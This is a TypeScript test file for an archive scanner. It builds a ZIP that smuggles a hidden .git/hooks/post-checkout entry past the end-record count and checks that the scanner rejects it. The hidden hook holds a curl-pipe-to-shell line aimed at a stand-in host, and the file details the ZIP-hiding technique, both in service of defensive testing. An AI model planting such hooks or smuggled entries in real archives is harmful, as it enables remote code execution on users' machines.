import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { crc32 } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { scanArchive } from '../../src/scan/scan-archive.js';
import { DEFAULT_SCAN_LIMITS } from '../../src/scan/types.js';
import { buildZip, projectDir, uniqueProject, zipOf } from '../helpers/archives.js';

/** A stored local header + data for `name`, to hide inside another entry's stored bytes. */
function localFile(name: string, data: Buffer): Buffer {
  const n = Buffer.from(name);
  const h = Buffer.alloc(30);
  h.writeUInt32LE(0x04034b50, 0);
  h.writeUInt16LE(20, 4);
  h.writeUInt16LE(0x800, 6);
  h.writeUInt16LE(0, 8);
  h.writeUInt32LE(crc32(data), 14);
  h.writeUInt32LE(data.length, 18);
  h.writeUInt32LE(data.length, 22);
  h.writeUInt16LE(n.length, 26);
  return Buffer.concat([h, n, data]);
}

const HOOK = Buffer.from('#!/bin/sh\ncurl -s https://evil.example/x | sh\n');

/**
 * A project whose stored binary blob holds a whole local file `.git/hooks/post-checkout`, with a
 * central record for it after the counted ones: the end record counts only the visible entries,
 * its directory size covers the hidden record too.
 */
function hiddenCentralZip(): Buffer {
  const hidden = localFile('.git/hooks/post-checkout', HOOK);
  const blob = Buffer.concat([Buffer.from([0, 1, 2, 3, 0, 0]), hidden]); // binary: not read as text
  const entries = [
    ...Object.entries(uniqueProject()).map(([name, data]) => ({ name, data })),
    { name: 'assets/blob.bin', data: blob, method: 0 },
  ];
  const at = buildZip(entries).indexOf(hidden);
  const zip = buildZip(entries, {
    extraCentral: [
      {
        name: '.git/hooks/post-checkout',
        method: 0,
        flags: 0x800,
        crc: crc32(HOOK),
        csize: HOOK.length,
        usize: HOOK.length,
        offset: at,
      },
    ],
  });
  const eocd = zip.length - 22;
  zip.writeUInt16LE(entries.length, eocd + 8);
  zip.writeUInt16LE(entries.length, eocd + 10);
  return zip;
}

const scan = (bytes: Buffer) => scanArchive(bytes, 'zip', DEFAULT_SCAN_LIMITS);

describe('central records must fill the central directory exactly', () => {
  it('a record past the end record count, inside its directory size, is refused', async () => {
    const zip = hiddenCentralZip();
    const file = path.join(mkdtempSync(path.join(tmpdir(), 'hidden-central-')), 'a.zip');
    writeFileSync(file, zip);
    const py = execFileSync('python3', [
      '-c',
      'import zipfile,sys;print([i.filename for i in zipfile.ZipFile(sys.argv[1]).infolist()])',
      file,
    ]).toString();
    expect(py).toContain('.git/hooks/post-checkout'); // Python's zipfile sees and extracts it
    const out = await scan(zip);
    expect(out.verdict).toBe('reject');
    expect(out.verdict === 'reject' && out.findings[0]).toMatchObject({
      check: 'unaccounted_bytes',
    });
  });

  it('the same zip nested in a project is refused, named by its path', async () => {
    const outer = zipOf({ ...uniqueProject(), 'vendor/lib.zip': hiddenCentralZip() });
    const out = await scan(outer);
    expect(out.verdict === 'reject' && out.findings[0]).toMatchObject({
      check: 'unaccounted_bytes',
      file: 'vendor/lib.zip',
    });
  });

  it('an Info-ZIP archive (extra fields, an entry comment, a zip comment) is accepted', async () => {
    const dir = projectDir(uniqueProject());
    const file = path.join(dir, '..', `${path.basename(dir)}.zip`);
    execFileSync('zip', ['-qr', file, '.'], { cwd: dir }); // with its UT and ux extra fields
    execFileSync('zip', ['-qc', file, 'src/index.ts'], { cwd: dir, input: 'entry comment\n.\n' });
    execFileSync('zip', ['-qz', file], { input: 'archive comment\n.\n' });
    const zip = readFileSync(file);
    expect(zip.includes('entry comment')).toBe(true);
    expect((await scan(zip)).verdict).toBe('accept');
  });
});
